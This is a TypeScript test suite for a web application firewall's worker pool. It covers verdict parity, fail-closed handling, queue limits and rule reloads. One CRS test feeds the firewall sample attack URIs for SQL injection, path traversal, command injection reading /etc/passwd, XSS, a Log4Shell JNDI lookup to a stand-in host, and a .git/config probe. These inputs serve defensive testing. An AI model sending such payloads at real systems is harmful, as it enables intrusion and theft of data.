// Pools judge as one waf does, and answer whatever becomes of their threads. The threads run the built module.

import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Worker } from 'node:worker_threads';
import fc from 'fast-check';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import type { ExchangeRecord } from '../../src/model/exchange.ts';
import type { ExchangeOutcome } from '../../src/model/transaction.ts';
import { createWaf } from '../../src/waf/create-waf.ts';
import { crsLoadOrder, resolveCrsDirectory } from '../../src/waf/crs-directory.ts';
import { loadPolicy, PolicyError } from '../../src/waf/policy.ts';
import { createWafPool } from '../../src/waf/pool.ts';
import type { WafPool, WafPoolOptions } from '../../src/waf/pool-options.ts';
import { RulesetError } from '../../src/waf/ruleset-error.ts';
import { crsPath } from '../support/crs.ts';
import { describeShared } from '../support/shared.ts';

const isBuilt = existsSync(
  fileURLToPath(new URL('../../dist/waf/pool-thread.js', import.meta.url)),
);
if (!isBuilt && process.env['CI'] === 'true') throw new Error('run "npm run build" first');

const RUNS = Number(process.env['FUZZ_RUNS'] ?? 100);

const get = (uri: string, id = 'x'): ExchangeRecord => ({
  id,
  method: 'GET',
  uri,
  headers: [['Host', 'a']],
  client: { address: '203.0.113.7', port: 5000 },
  timeMs: 1_700_000_000_000,
});

const RULES = `SecRuleEngine On
SecRequestBodyAccess On
SecResponseBodyAccess On
SecAction "id:1,phase:1,pass,nolog,setvar:tx.n=1,tag:'t/%{REQUEST_METHOD}'"
SecRule ARGS "@rx a+" "id:2,phase:2,pass,log,msg:'a in %{MATCHED_VAR_NAME}',logdata:'%{MATCHED_VAR}',severity:3"
SecRule ARGS|REQUEST_HEADERS "@contains <script" "id:3,phase:2,deny,status:406"
SecRule REQUEST_METHOD "@streq PUT" "id:4,phase:1,redirect:http://a.test/%{REQUEST_URI}"
SecRule RESPONSE_BODY "@contains secret" "id:5,phase:4,deny,status:502"`;

const folder = mkdtempSync(join(tmpdir(), 'portcullis-pool-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
writeFileSync(join(folder, 'endless.lua'), 'function main() while true do end end');

/** Each of the scripts runs until its own bound, so `slow` keeps a worker busy for seconds. */
const WITH_SLOW = `${RULES}
${[21, 22, 23, 24].map((id) => `SecRule ARGS:slow "@inspectFile ${join(folder, 'endless.lua')}" "id:${id},phase:2,pass"`).join('\n')}`;

/** The threads that pools of this test have started. */
const threads: Worker[] = [];
process.on('worker', (thread) => {
  threads.push(thread);
});

const plain = (outcome: ExchangeOutcome): unknown => JSON.parse(JSON.stringify(outcome));

const open: WafPool[] = [];
afterEach(async () => {
  await Promise.all(open.splice(0).map((pool) => pool.close()));
});

async function poolOf(options: WafPoolOptions): Promise<WafPool> {
  const pool = await createWafPool({ workers: 1, ...options });
  open.push(pool);
  return pool;
}

const bytes = (maxLength: number): fc.Arbitrary<string> =>
  fc.oneof(
    fc.constantFrom('a', 'aaa', '<script>', 'x=a&y=%3Cscript', 'secret', '\xff\x00\x80', ''),
    fc.uint8Array({ maxLength }).map((all) => String.fromCharCode(...all)),
  );

const records: fc.Arbitrary<ExchangeRecord> = fc.record({
  id: fc.stringMatching(/^[0-9a-f]{1,8}$/),
  method: fc.constantFrom('GET', 'POST', 'PUT', 'X'),
  uri: bytes(20).map((text) => `/?q=${text}`),
  headers: fc.array(fc.tuple(fc.constantFrom('Host', 'Content-Type', 'X-A', ''), bytes(10)), {
    maxLength: 4,
  }),
  body: fc.option(bytes(200), { nil: undefined }),
  client: fc.constantFrom(undefined, { address: '2001:db8::1', port: 1 }),
  timeMs: fc.constant(1_700_000_000_000),
  response: fc.option(
    fc.record({
      status: fc.constantFrom(200, 404),
      headers: fc.constant([['Content-Type', 'text/html']] as const),
      body: fc.option(bytes(200), { nil: undefined }),
    }),
    { nil: undefined },
  ),
});

const LIMIT: WafPoolOptions['policy'] = [
  {
    name: 'limit.yaml',
    text: 'rateLimits:\n- name: two\n  action: block\n  conditions: {moreThan: 2, in: 5m}\n',
  },
];

/** Codes of what kept an exchange from being judged. */
const codes = ({ verdict }: ExchangeOutcome): readonly string[] =>
  verdict.errors.map(({ code }) => code);

describe.skipIf(!isBuilt)('createWafPool', () => {
  it('answers what a waf answers', async () => {
    const waf = createWaf({ rules: RULES });
    const pool = await poolOf({ rules: RULES, workers: 2 });
    await fc.assert(
      fc.asyncProperty(fc.array(records, { minLength: 1, maxLength: 40 }), async (list) => {
        const outcomes = await Promise.all(list.map((record) => pool.inspect(record)));
        expect(outcomes.map(plain)).toEqual(list.map((record) => plain(waf.inspect(record))));
      }),
      { numRuns: RUNS },
    );
    expect(pool.pending).toBe(0);
  });

  it('answers what a waf with a policy answers', async () => {
    const waf = createWaf({ rules: RULES, policy: loadPolicy(LIMIT ?? []) });
    const pool = await poolOf({ rules: RULES, policy: LIMIT });
    const list = Array.from({ length: 6 }, (_, at) => get(`/?a=${at}`));
    const decisions = await Promise.all(list.map((record) => pool.inspect(record)));
    expect(decisions.map(({ decision }) => plain({ decision } as ExchangeOutcome))).toEqual(
      list.map((record) => plain({ decision: waf.inspect(record).decision } as ExchangeOutcome)),
    );
    expect(decisions.map(({ decision }) => decision.row)).toEqual([
      ...['fallback', 'fallback'],
      ...['threshold-block', 'threshold-block', 'threshold-block', 'threshold-block'],
    ]);
  });

  it('warns of limits that each worker counts for itself, and not where they share a store', async () => {
    const told: string[] = [];
    const onWarning = (message: string): void => {
      if (message.includes('2 workers')) told.push(message);
    };
    await poolOf({ rules: RULES, policy: LIMIT, workers: 2, onWarning });
    expect(told).toHaveLength(1);
    const state = { path: join(folder, 'quiet'), durable: false };
    await poolOf({ rules: RULES, policy: LIMIT, workers: 2, state, onWarning });
    await poolOf({ rules: RULES, policy: LIMIT, workers: 1, onWarning });
    expect(told).toHaveLength(1);
  });

  it('shares collections in LMDB between workers', async () => {
    const rules = `SecRuleEngine On
SecAction "id:1,phase:1,pass,nolog,initcol:ip=%{REMOTE_ADDR},setvar:ip.hits=+1"
SecRule IP:hits "@ge 1" "id:2,phase:1,pass,log,logdata:'%{MATCHED_VAR}'"`;
    const state = { path: join(folder, 'shared'), durable: false };
    const pool = await poolOf({ rules, workers: 2, state });
    const now = (at: number): ExchangeRecord => ({ ...get('/', `n${at}`), timeMs: undefined });
    await Promise.all(Array.from({ length: 40 }, (_, at) => pool.inspect(now(at))));
    const { verdict } = await pool.inspect(now(40));
    expect(verdict.matches.map(({ data }) => data)).toContain('41');
  });

  it('rejects rules and policies with errors', async () => {
    await expect(createWafPool({ rules: 'SecRul x' })).rejects.toBeInstanceOf(RulesetError);
    const policy = [{ name: 'p', text: 'nothing: 1\n' }];
    await expect(createWafPool({ rules: RULES, policy })).rejects.toBeInstanceOf(PolicyError);
    await expect(createWafPool({ rules: RULES, workers: 0 })).rejects.toBeInstanceOf(TypeError);
  });

  it('rejects what is no record', async () => {
    const pool = await poolOf({ rules: RULES });
    const wrong = { method: 'GET' } as unknown as ExchangeRecord;
    await expect(pool.inspect(wrong)).rejects.toBeInstanceOf(TypeError);
    expect(pool.pending).toBe(0);
  });
});

describeShared('a pool with CRS', crsPath(), () => {
  it.skipIf(!isBuilt)('answers what a waf answers', async () => {
    const layout = resolveCrsDirectory(crsPath());
    if (layout.kind === 'problem') throw new Error(layout.diagnostic.message);
    const rules = crsLoadOrder(layout, { paranoia: 2 }).map((name) => ({
      name,
      text: readFileSync(name, 'latin1'),
    }));
    const waf = createWaf({ rules });
    const pool = await poolOf({ rules, workers: 2 });
    const usual: ExchangeRecord['headers'] = [
      ['Host', 'shop.test'],
      ['User-Agent', 'Mozilla/5.0'],
      ['Accept', 'text/html'],
    ];
    const attacks = [
      ...['/', '/?q=hello', "/?id=1'+or+'1'='1'--", '/?f=../../etc/passwd', '/?c=;cat+/etc/passwd'],
      ...['/?x=<script>alert(1)</script>', '/?u=%24%7Bjndi:ldap://a.test/a%7D', '/.git/config'],
    ];
    const list: readonly ExchangeRecord[] = attacks.flatMap((uri): ExchangeRecord[] => [
      { ...get(uri), headers: usual },
      { ...get(uri), headers: [['User-Agent', 'sqlmap/1.0']] },
      {
        ...get('/'),
        method: 'POST',
        headers: [...usual, ['Content-Type', 'application/x-www-form-urlencoded']],
        body: uri.slice(2),
      },
    ]);
    const twice = [...list, ...list];
    const outcomes = await Promise.all(twice.map((record) => pool.inspect(record)));
    expect(outcomes.map(plain)).toEqual(twice.map((record) => plain(waf.inspect(record))));
    expect(new Set(outcomes.map(({ decision }) => decision.effect)).size).toBe(2);
  });
});

describe.skipIf(!isBuilt)('a full pool', () => {
  const flood = async (options: Partial<WafPoolOptions>): Promise<readonly ExchangeOutcome[]> => {
    const pool = await poolOf({ rules: RULES, maxPending: 3, ...options });
    return Promise.all([1, 2, 3, 4, 5].map((at) => pool.inspect(get('/', `f${at}`))));
  };

  it('refuses what it cannot take with a named outcome, and judges what it took', async () => {
    const outcomes = await flood({});
    expect(outcomes.map(codes)).toEqual([
      ...[[], [], []],
      ...[['pool-queue-full'], ['pool-queue-full']],
    ]);
    expect(outcomes.map(({ decision }) => decision.effect)).toEqual([
      ...['allow', 'allow', 'allow'],
      ...['block', 'block'],
    ]);
    expect(outcomes[4]).toMatchObject({
      verdict: { id: 'f5' },
      decision: { row: 'engine-error', status: 500 },
    });
  });

  it('bounds the bytes that are pending', async () => {
    const pool = await poolOf({ rules: RULES, maxPendingBytes: 1000 });
    const large = { ...get('/'), method: 'POST', body: 'x'.repeat(600) };
    const outcomes = await Promise.all([pool.inspect(large), pool.inspect(large)]);
    expect(outcomes.map(codes)).toEqual([[], ['pool-queue-full']]);
    expect(codes(await pool.inspect(large))).toEqual([]);
  });

  it('blocks nothing where rules only detect or errors are configured to go on', async () => {
    for (const options of [{ engine: 'DetectionOnly' }, { onEngineError: 'allow' }] as const) {
      const last = (await flood(options))[4];
      expect(last?.decision.effect).toBe('allow');
      expect(last === undefined ? [] : codes(last)).toEqual(['pool-queue-full']);
    }
  });

  it('blocks where rules only detect and a policy has not judged', async () => {
    const last = (await flood({ engine: 'DetectionOnly', policy: LIMIT }))[4];
    expect(last?.decision).toMatchObject({ effect: 'block', row: 'engine-error' });
  });
});

describe.skipIf(!isBuilt)('a worker that dies', () => {
  it('fails its exchanges closed, and is replaced', async () => {
    const pool = await poolOf({ rules: WITH_SLOW });
    const thread = threads.at(-1);
    const lost = Promise.all([pool.inspect(get('/?slow=1')), pool.inspect(get('/?b=1'))]);
    await Promise.resolve();
    void thread?.terminate();
    for (const outcome of await lost) {
      expect(codes(outcome)).toEqual(['pool-worker-lost']);
      expect(outcome.decision).toMatchObject({ effect: 'block', row: 'engine-error' });
    }
    expect(pool.ready).toBe(0);
    expect(codes(await pool.inspect(get('/?b=1')))).toEqual([]);
    expect(pool.ready).toBe(1);
  });

  it('is replaced by one with the same files, whatever has become of them', async () => {
    const words = join(folder, 'words.data');
    writeFileSync(words, 'first\n');
    const rules = `SecRuleEngine On\nSecRule ARGS "@pmFromFile ${words}" "id:1,phase:2,deny"`;
    const pool = await poolOf({ rules });
    writeFileSync(words, 'second\n');
    await threads.at(-1)?.terminate();
    expect((await pool.inspect(get('/?a=first'))).decision.effect).toBe('block');
    expect((await pool.inspect(get('/?a=second'))).decision.effect).toBe('allow');
    await pool.reload(rules);
    expect((await pool.inspect(get('/?a=second'))).decision.effect).toBe('block');
  });

  it('is ended when it is stuck', async () => {
    const pool = await poolOf({ rules: WITH_SLOW, timeoutMs: 1000 });
    const stuck = pool.inspect(get('/?slow=1'));
    expect(codes(await stuck)).toEqual(['pool-worker-lost']);
    expect((await stuck).decision.effect).toBe('block');
  });

  it('does not keep exchanges waiting for ever when no other comes', async () => {
    const pool = await poolOf({ rules: RULES, timeoutMs: 40 });
    const thread = threads.at(-1);
    void thread?.terminate();
    await new Promise((resolve) => thread?.once('exit', resolve));
    // The next one starts 100 ms later.
    const outcome = await pool.inspect(get('/'));
    expect(codes(outcome)).toEqual(['pool-timeout']);
    expect(outcome.decision.effect).toBe('block');
  });
});

describe.skipIf(!isBuilt)('a reload', () => {
  const version = (name: string): string => `SecRuleEngine On
SecAction "id:1,phase:1,pass,log,msg:'${name}'"
SecAction "id:2,phase:2,pass,log,msg:'${name}'"
SecAction "id:3,phase:5,pass,log,msg:'${name}'"`;
  const versionsOf = ({ verdict }: ExchangeOutcome): string =>
    verdict.matches.map(({ message }) => message).join(' ');

  it('judges each exchange by one version, and all that come later by the new one', async () => {
    const pool = await poolOf({ rules: version('old'), workers: 2 });
    let isDone = false;
    const seen = new Set<string>();
    const stream = async (): Promise<void> => {
      while (!isDone) seen.add(versionsOf(await pool.inspect(get('/'))));
    };
    const streams = [stream(), stream(), stream(), stream()];
    await pool.reload(version('new'));
    const after = await Promise.all(Array.from({ length: 50 }, () => pool.inspect(get('/'))));
    isDone = true;
    await Promise.all(streams);
    expect(new Set(after.map(versionsOf))).toEqual(new Set(['new new new']));
    expect([...seen].every((all) => all === 'old old old' || all === 'new new new')).toBe(true);
  });

  it('leaves the rules in force when the next ones have errors', async () => {
    const pool = await poolOf({ rules: version('old') });
    await expect(pool.reload('SecRul x')).rejects.toBeInstanceOf(RulesetError);
    expect(versionsOf(await pool.inspect(get('/')))).toBe('old old old');
    await pool.reload(version('new'));
    expect(versionsOf(await pool.inspect(get('/')))).toBe('new new new');
  });

  it('is refused when a worker dies over it, and the rules before stay', async () => {
    const pool = await poolOf({ rules: version('old'), workers: 2 });
    const reloaded = pool.reload(version('new'));
    await Promise.resolve();
    const dead = Promise.all(threads.slice(-2).map((thread) => thread.terminate()));
    await expect(reloaded).rejects.toBeInstanceOf(Error);
    // An exchange that a dying worker still takes fails closed, which is another test's business.
    await dead;
    expect(versionsOf(await pool.inspect(get('/')))).toBe('old old old');
    await pool.reload(version('new'));
    expect(versionsOf(await pool.inspect(get('/')))).toBe('new new new');
  });

  it('is refused for what cannot be handed over, and the pool goes on', async () => {
    const pool = await poolOf({ rules: version('old') });
    const loaded = createWaf({ rules: version('new') }).ruleset;
    const wrong = loaded as unknown as WafPoolOptions['rules'];
    await expect(pool.reload(wrong)).rejects.toBeInstanceOf(Error);
    expect(versionsOf(await pool.inspect(get('/')))).toBe('old old old');
    await pool.reload(version('new'));
    expect(versionsOf(await pool.inspect(get('/')))).toBe('new new new');
  });

  it('comes after the reload before it', async () => {
    const pool = await poolOf({ rules: version('one') });
    await Promise.all([pool.reload(version('two')), pool.reload(version('three'))]);
    expect(versionsOf(await pool.inspect(get('/')))).toBe('three three three');
  });

  it('changes the policy alone', async () => {
    const pool = await poolOf({ rules: version('old') });
    await pool.usePolicy(LIMIT);
    for (let at = 0; at < 2; at++) await pool.inspect(get('/'));
    const { decision } = await pool.inspect(get('/'));
    expect(decision).toMatchObject({ effect: 'block', row: 'threshold-block', rule: 'two' });
    await pool.usePolicy(undefined);
    expect((await pool.inspect(get('/'))).decision.effect).toBe('allow');
  });
});

describe.skipIf(!isBuilt)('a pool that closes', () => {
  it('answers what it has taken, and takes no more', async () => {
    const pool = await poolOf({ rules: RULES, workers: 2 });
    const taken = Array.from({ length: 100 }, () => pool.inspect(get('/?a=<script')));
    const closed = pool.close();
    const late = await pool.inspect(get('/'));
    expect(codes(late)).toEqual(['pool-closed']);
    expect(late.decision.effect).toBe('block');
    await closed;
    const outcomes = await Promise.all(taken);
    expect(outcomes.every(({ decision }) => decision.status === 406)).toBe(true);
    expect(pool.ready).toBe(0);
    await expect(pool.reload(RULES)).rejects.toBeInstanceOf(Error);
  });
});
